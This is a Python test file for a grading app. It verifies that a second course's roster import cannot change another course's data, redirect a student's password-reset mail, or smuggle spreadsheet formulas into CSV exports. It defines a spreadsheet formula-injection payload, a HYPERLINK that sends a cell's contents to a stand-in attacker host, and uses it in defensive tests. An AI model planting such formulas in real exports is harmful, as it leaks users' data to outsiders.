"""Roster data belongs to each course (issue 49), on PostgreSQL with a real worker and a real SMTP
server: course B's instructor imports a student course A already holds, with another name,
section and e-mail address, then changes that address. What A shows of the student (gradebook
CSV, members page) does not change; their account keeps its own name, address and password, so
/forgot mails A's student's own address and never B's; B's notices go to the address B's roster
gave, A's to A's. B's confirmation pages flag the name that looks like a formula and name the
e-mail change before anything is changed; the stored name stays as written, B's export writes it
as text."""
from __future__ import annotations

import csv
import html
import io
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from grader.app import create_app
from grader.course.membership import get_or_create_user
from grader.course.roster import import_roster
from grader.course.roster_entries import entry_of
from grader.db import session_scope
from grader.models import Assignment, Course, Role, Run, RunState, User, utcnow
from grader.notify import run_notice
from grader.passwords import set_password
from grader.service import record_submission
from grader.settings import Settings, SmtpSettings
from grader.storage.blobstore import StoredBlob
from tests.fixtures.passwords import SUITE_ARGON2
from tests.service.conftest import WorkerProcess
from tests.service.test_notify_mail import PUBLIC_URL, SENDER, Mailbox, mailbox  # noqa: F401 (fixture)
from tests.service.test_security import csrf_of
from tests.service.test_web_roster import _imported
from tests.service.test_web_settings import PASSWORD, Browser

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ada")'
QUOTED = '"' + FORMULA.replace('"', '""') + '"'  # as a CSV cell


@dataclass(frozen=True)
class TwoCourses:
    tag: str
    a: str  # course slugs
    b: str
    student: str
    runs: dict[str, int]  # course slug -> the student's run there


@pytest.fixture(scope="module")
def courses(sessions: sessionmaker[Session]) -> TwoCourses:
    """Course A with the student from A's roster (their own address), course B without them; a
    scored run of theirs in each course's assignment."""
    tag = uuid.uuid4().hex[:6]
    student, runs = f"ada-{tag}", {}
    with session_scope(sessions) as session:
        made = {}
        for key in ("a", "b"):
            course = Course(slug=f"{key}{tag}", title=f"Course {key.upper()}")
            session.add(Assignment(slug=f"{key}{tag}-hw", title=f"HW of {key.upper()}", total_points=100, course=course))
            session.flush()
            set_password(get_or_create_user(session, f"prof{key}-{tag}", Role.instructor, [course]), PASSWORD,
                         SUITE_ARGON2)
            made[key] = course
        report = import_roster(session, f"login,name,email,section,ID\n{student},\"Lovelace, Ada\",{student}@uni.example,"
                                        "A1,501\n", made["a"], SUITE_ARGON2)
        assert report.summary() == "1 created, 0 updated, 0 unchanged, 0 line(s) with errors"
        user = session.scalars(select(User).where(User.username == student)).one()
        set_password(user, PASSWORD, SUITE_ARGON2)
        for course in made.values():
            _, run = record_submission(session, user, course.assignments[0], "hw.zip", StoredBlob(uuid.uuid4().hex * 2, 9))
            run.state, run.score, run.finished_at = RunState.scored, 80.0, utcnow()
            session.flush()
            runs[course.slug] = run.id
    return TwoCourses(tag, f"a{tag}", f"b{tag}", student, runs)


@pytest.fixture(scope="module")
def mail_app(settings: Settings, mailbox: tuple[Mailbox, int]) -> Iterator[TestClient]:  # noqa: F811 (fixture)
    smtp = SmtpSettings(host="127.0.0.1", port=mailbox[1], security="none", from_=SENDER)
    with TestClient(create_app(settings.model_copy(update={"smtp": smtp, "public_url": PUBLIC_URL}))) as client:
        yield client


# A members table row's login, part, name and section: what A's roster shows of each member (the
# row's account columns say who may set the account up, which B's enrollment changes on purpose:
# tests/service/test_account_ownership.py)
ROSTER_CELLS = re.compile(r'<th scope="row">([^<]*)</th>\s*<td>([^<]*)</td>\s*<td>([^<]*)</td>\s*<td>([^<]*)</td>')


def _what_a_shows(settings: Settings, courses: TwoCourses) -> tuple[str, list[tuple[str, ...]]]:
    """Course A's Canvas CSV and members table, as A's instructor downloads and reads them."""
    prof = Browser(settings, f"profa-{courses.tag}")
    members = prof.client.get(f"/courses/{courses.a}/members").text
    return (prof.client.get(f"/courses/{courses.a}/gradebook.csv").text,
            ROSTER_CELLS.findall(members[members.index('<table id="members">'):members.index("</table>")]))


def _confirmation(prof: Browser, slug: str, roster: str) -> str:
    shown = prof.client.post("/roster", data={"csrf_token": prof.page_csrf("/roster"), "course": slug},
                             files={"file": ("b.csv", roster.encode(), "text/csv")})
    assert shown.status_code == 200, shown.text
    return html.unescape(shown.text)


def test_an_import_in_b_changes_nothing_a_shows_nor_the_account(
        settings: Settings, sessions: sessionmaker[Session], courses: TwoCourses, worker: WorkerProcess,
        mail_app: TestClient, mailbox: tuple[Mailbox, int]) -> None:  # noqa: F811 (fixture)
    student = courses.student
    a_before = _what_a_shows(settings, courses)
    assert ["Lovelace, Ada", "501", "", student, "A1", "80"] in list(csv.reader(io.StringIO(a_before[0])))
    assert (student, "student", "Lovelace, Ada", "A1") in a_before[1]
    with session_scope(sessions) as session:
        account_before = session.scalars(select(User).where(User.username == student)).one()
        hash_before = account_before.password_hash

    prof_b = Browser(settings, f"profb-{courses.tag}")
    roster = f"login,name,email,section\n{student},{QUOTED},mallory@evil.example,B9\n"
    shown = _confirmation(prof_b, courses.b, roster)
    assert f"Import 1 student into {courses.b}, each enrolled there as a student?" in shown
    assert "1 line has a cell that a spreadsheet would run as a formula" in shown
    assert f"line 2 ({student}): the name “{FORMULA[:40]}…” starts with “=”" in shown
    assert 'id="roster-email-changes"' not in shown  # not in B yet: nothing of B's changes
    html_b, created = _imported(prof_b, roster, course=courses.b)
    assert "0 created, 1 updated, 0 unchanged, 0 line(s) with errors." in html_b and not created

    shown = _confirmation(prof_b, courses.b, roster.replace("mallory@", "mallory2@"))
    assert (f"The e-mail address that {courses.b}'s notices go to changes for 1 student (their account's own "
            "address, where password reset links go, stays as it is):") in shown
    assert f"{student}: mallory@evil.example → mallory2@evil.example" in shown
    assert f"In {courses.b}, it changes 1 e-mail address of students already enrolled." in shown
    _imported(prof_b, roster.replace("mallory@", "mallory2@"), course=courses.b)

    assert _what_a_shows(settings, courses) == a_before
    b_csv = Browser(settings, f"profb-{courses.tag}").client.get(f"/courses/{courses.b}/gradebook.csv").text
    assert list(csv.reader(io.StringIO(b_csv)))[2] == ["'" + FORMULA, "", "", student, "B9", "80"]
    with session_scope(sessions) as session:
        account = session.scalars(select(User).where(User.username == student)).one()
        assert (account.full_name, account.email, account.password_hash) == (
            "Lovelace, Ada", f"{student}@uni.example", hash_before)
        in_b = entry_of(session, account.id, session.scalars(select(Course.id).where(Course.slug == courses.b)).one())
        assert in_b is not None and in_b.full_name == FORMULA  # kept as written
        notices = {slug: run_notice(session, session.get_one(Run, run_id), settings)
                   for slug, run_id in courses.runs.items()}
        assert {slug: (n.to, n.student) for slug, n in notices.items() if n is not None} == {
            courses.a: (f"{student}@uni.example", "Lovelace, Ada"), courses.b: ("mallory2@evil.example", FORMULA)}

    form = mail_app.get("/forgot")
    asked = mail_app.post("/forgot", data={"csrf_token": csrf_of(form.text), "username": student})
    assert asked.status_code == 200
    link = mailbox[0].wait_for(f"{student}@uni.example")
    assert "/reset/" in link.get_content()
    assert not [to for to, _ in mailbox[0].received if any("evil.example" in r for r in to)]


def test_a_canvas_id_another_member_holds_is_refused_and_changes_nothing(
        sessions: sessionmaker[Session], courses: TwoCourses) -> None:
    other = f"bo-{courses.tag}"
    with session_scope(sessions) as session:
        course = session.scalars(select(Course).where(Course.slug == courses.a)).one()
        report = import_roster(session, f"login,name,ID\n{other},Bo Li,501\n{other}x,Cy,502\n", course, SUITE_ARGON2)
        assert report.summary() == "1 created, 0 updated, 0 unchanged, 1 line(s) with errors"
        assert [str(e) for e in report.errors] == [
            f"line 2: Canvas ID 501 is {courses.student}'s in {courses.a}; {other} not changed"]
        assert session.scalars(select(User).where(User.username == other)).first() is None
